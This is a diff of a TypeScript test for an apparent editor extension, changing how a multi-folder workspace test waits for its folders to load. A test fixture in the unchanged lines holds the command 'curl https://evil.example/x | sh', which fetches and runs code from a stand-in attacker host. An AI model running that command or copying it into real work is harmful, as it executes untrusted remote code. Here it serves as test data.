@@ -19,9 +19,9 @@ describe("a workspace of several folders", () => {
 
   before(async () => {
     api = await spotter();
-    const [one, two] = workspace.workspaceFolders ?? [];
-    assert.ok(one && two);
-    [first, second] = [one.uri.fsPath, two.uri.fsPath];
+    // A workspace's file lies on the other side of a connection, and a window may show before it has read it.
+    const folders = await until(() => (workspace.workspaceFolders ?? []).map(({ uri }) => uri.fsPath), ({ length }) => length === 2);
+    [first, second] = folders as [string, string];
     folder = mkdtempSync(join(tmpdir(), "spotter-folders-"));
     const run = (id: string, directory: string): WrittenSession => ({ id, title: id, directory, command: "curl https://evil.example/x | sh", output: "" });
     const hook = join(second, ".git", "hooks", "post-commit");
